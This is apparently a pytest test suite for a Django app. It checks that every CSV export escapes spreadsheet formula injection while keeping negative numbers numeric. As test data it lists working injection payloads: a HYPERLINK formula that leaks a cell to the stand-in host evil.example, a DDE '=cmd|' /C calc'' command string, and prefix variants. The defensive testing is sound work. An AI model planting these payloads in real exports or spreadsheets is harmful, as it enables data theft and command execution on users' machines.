"""CSV formula injection: every CSV the app writes — the downloads (segment members,
the dashboard's tables, an import's refused rows, a data subject's export) and the
files `regua analytics --csv` writes — holds a contact named `=HYPERLINK(...)` as text a
spreadsheet will not run. Numbers stay numbers, negative ones included."""

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import NoReverseMatch, URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from regua.analytics.dashboard import TABLE_TITLES
from regua.analytics.models import CustomerScore
from regua.commerce.models import Order, OrderItem
from regua.customers.models import Contact
from regua.imports.models import ImportJob
from regua.lib.csv_safe import (
    FORMULA_STARTS,
    NEGATIVE_NUMBER,
    csv_lines,
    safe_cell,
    safe_frame,
)
from regua.segments.models import Segment
from regua.users.models import User

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
]


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula: it starts with one of
    the characters, and is not simply a negative number (which stays a number)."""
    return cell.startswith(FORMULA_STARTS) and not NEGATIVE_NUMBER.match(cell)


def cells_of(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def body_of(response: Any) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8")


# -- The cells --------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert not runs_as_formula(safe_cell(value))


@pytest.mark.parametrize("value", ["-12,50", "-1.234,56", "-7", "-0.5"])
def test_a_negative_number_written_as_text_stays_a_number(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-12.5, -3, Decimal("-1.50"), 0, None, True, "Ana", "São Paulo"])
def test_numbers_and_plain_text_pass_unchanged(value: Any) -> None:
    assert safe_cell(value) is value


def test_a_phone_number_in_international_form_stays_text() -> None:
    assert safe_cell("+5511987654321") == "'+5511987654321"


def test_the_header_is_made_safe_too() -> None:
    lines = "".join(csv_lines(["=evil", "name"], [["-2", "@x"]], delimiter=";"))
    assert cells_of(lines, ";") == [["'=evil", "name"], ["-2", "'@x"]]


def test_a_polars_frame_keeps_numbers_and_escapes_text() -> None:
    frame = pl.DataFrame(
        {
            "name": [*HOSTILE, "-12,50", None, "Ana"],
            "spend": [-1.5] * len(HOSTILE) + [2.0, 3.0, 4.0],
        }
    )

    safe = safe_frame(frame)

    assert safe.schema == frame.schema
    assert safe.get_column("spend").to_list() == frame.get_column("spend").to_list()
    names = safe.get_column("name").to_list()
    assert names[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert names[len(HOSTILE) :] == ["-12,50", None, "Ana"]


# -- Every download -----------------------------------------------------------------------


def _patterns(patterns: list[Any], prefix: str = "", namespace: str = "") -> Iterator[str]:
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = ":".join(n for n in (namespace, pattern.namespace or "") if n)
            yield from _patterns(pattern.url_patterns, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}:{pattern.name}" if namespace else pattern.name


# Every URL that downloads a CSV, and how to ask for it (see the walk below).
CSV_DOWNLOADS = {
    "segments:export",
    "analytics:export",
    "imports:errors_csv",
    "privacy:export_csv",
}
# Exports in other formats.
NOT_CSV = {"privacy:export_json", "cadences:yaml", "agenda:feed", "agenda:calendar"}


def test_every_download_that_may_be_a_csv_is_walked_below() -> None:
    names = set(_patterns(get_resolver().url_patterns))
    looks_like_csv = {
        name
        for name in names
        if any(word in name for word in ("csv", "export", "download", "report"))
    }
    unchecked = looks_like_csv - CSV_DOWNLOADS - NOT_CSV - {"desk:report"}
    assert not unchecked, (
        f"walk these downloads in test_no_download_has_a_live_formula: {unchecked}"
    )


@pytest.fixture
def hostile_world(db: None, manager: User, settings: Any) -> dict[str, Any]:
    """Contacts with a formula in every text field, their orders and scores, a segment
    of them, and an import whose refused rows quote them."""
    settings.PORTFOLIO_VISIBILITY = "all"
    today = timezone.localdate()
    contacts = []
    for n, value in enumerate(HOSTILE):
        contact = Contact.objects.create(
            first_name=value,
            last_name=value,
            email=f"formula{n}@exemplo.com.br",
            phone="+5511987654321",
            city=value,
            state="SP",
            owner=manager,
        )
        contacts.append(contact)
        Order.objects.create(
            contact=contact,
            external_id=f"F{n}",
            ordered_at=timezone.now() - timedelta(days=3),
            total=Decimal("10.00"),
            status="paid",
        )
        CustomerScore.objects.create(
            contact=contact,
            as_of=today,
            purchases=1,
            spend=Decimal("10.00"),
            first_purchase_on=today - timedelta(days=3),
            last_purchase_on=today - timedelta(days=3),
            activity_cell="",
            relationship_type="",
            clv=Decimal("-5.25") if n == 0 else Decimal(n),
        )
    segment = Segment.objects.create(name="=Todos", rule={"match": "all", "conditions": []})
    job = ImportJob.objects.create(
        kind="contacts",
        original_name="=clientes.csv",
        status="done",
        errors=[
            {"line": 2 + n, "field": value, "message": f"{value} is not an e-mail"}
            for n, value in enumerate(HOSTILE)
        ],
        created_by=manager,
    )
    return {"contacts": contacts, "segment": segment, "job": job}


def _downloads(world: dict[str, Any], client: Client) -> Iterator[tuple[str, str, str]]:
    """(name, url, delimiter) of each CSV download of the world."""
    yield "segments:export", reverse("segments:export", args=[world["segment"].pk]), ","
    yield "imports:errors_csv", reverse("imports:errors_csv", args=[world["job"].pk]), ";"
    client.get(reverse("analytics:dashboard"))  # computes the snapshot the exports read
    for table in TABLE_TITLES:
        yield "analytics:export", reverse("analytics:export", args=[table]), ","
    try:  # the data subject's export (regua.privacy), where installed
        url = reverse("privacy:export_csv", args=[world["contacts"][0].pk])
    except NoReverseMatch:
        return
    yield "privacy:export_csv", url, ","


def test_no_download_has_a_live_formula(
    hostile_world: dict[str, Any], client_for: Any, manager: User
) -> None:
    client = client_for(manager)
    walked = set()
    seen_hostile = 0
    for name, url, delimiter in _downloads(hostile_world, client):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv"), url
        rows = cells_of(body_of(response), delimiter)
        live = [cell for row in rows for cell in row if runs_as_formula(cell)]
        assert not live, f"{url}: {live}"
        seen_hostile += sum(1 for row in rows for cell in row if cell.startswith("'"))
        walked.add(name)
    assert walked >= CSV_DOWNLOADS - {"privacy:export_csv"}
    # the hostile names were there, written as text
    assert seen_hostile >= 3 * len(HOSTILE)


def test_the_segment_export_keeps_the_names_readable(
    hostile_world: dict[str, Any], client_for: Any, manager: User
) -> None:
    segment = hostile_world["segment"]
    rows = cells_of(body_of(client_for(manager).get(reverse("segments:export", args=[segment.pk]))))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + value for value in HOSTILE}
    phones = {row[4] for row in rows[1:]}
    assert phones == {"'+5511987654321"}


def test_the_dashboard_export_keeps_a_negative_clv_a_number(
    hostile_world: dict[str, Any], client_for: Any, manager: User
) -> None:
    client = client_for(manager)
    client.get(reverse("analytics:dashboard"))
    rows = cells_of(body_of(client.get(reverse("analytics:export", args=["top_customers"]))))
    clvs = {row[2] for row in rows[1:]}
    assert "-5.25" in clvs


def test_an_import_report_escapes_the_uploaders_column_names(
    hostile_world: dict[str, Any], client_for: Any, manager: User
) -> None:
    job = hostile_world["job"]
    text = body_of(client_for(manager).get(reverse("imports:errors_csv", args=[job.pk])))
    rows = cells_of(text, ";")
    assert rows[0] == ["line", "field", "message"]
    assert rows[1] == ["2", "'" + HOSTILE[0], "'" + HOSTILE[0] + " is not an e-mail"]


# -- Files the analytics command writes -----------------------------------------------------


@pytest.mark.django_db
def test_the_analytics_command_writes_safe_csv(tmp_path: Path, make_contact: Any) -> None:
    # given baskets whose SKUs (from an import or the API) are formulas
    for n in range(4):
        order = Order.objects.create(
            contact=make_contact(),
            external_id=f"B{n}",
            ordered_at=timezone.now() - timedelta(days=2),
            total=Decimal("20.00"),
            status="paid",
        )
        for sku in ('=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "-2+3"):
            OrderItem.objects.create(order=order, sku=sku, unit_price=Decimal("10.00"))
    path = tmp_path / "pairs.csv"

    call_command("analytics", "crosssell", "--csv", str(path), "--min-baskets", "1")

    rows = cells_of(path.read_text("utf-8"))
    assert rows[0][:2] == ["sku", "other"]
    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if runs_as_formula(cell)]
    assert {row[0] for row in rows[1:]} == {
        "'" + sku for sku in ('=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "-2+3")
    }


def test_the_cdnow_conversion_writes_safe_csv(tmp_path: Path) -> None:
    source = tmp_path / "cdnow.txt"
    source.write_text("00001 1 19970101 1 -11.77\n00002 1 19970102 2 20.00\n")
    target = tmp_path / "orders.csv"

    call_command("analytics", "cdnow-orders", str(source), str(target))

    rows = cells_of(target.read_text("utf-8"))
    assert rows[1] == ["cdnow-00001", "cdnow-1", "1997-01-01 12:00", "-11.77", "USD"]
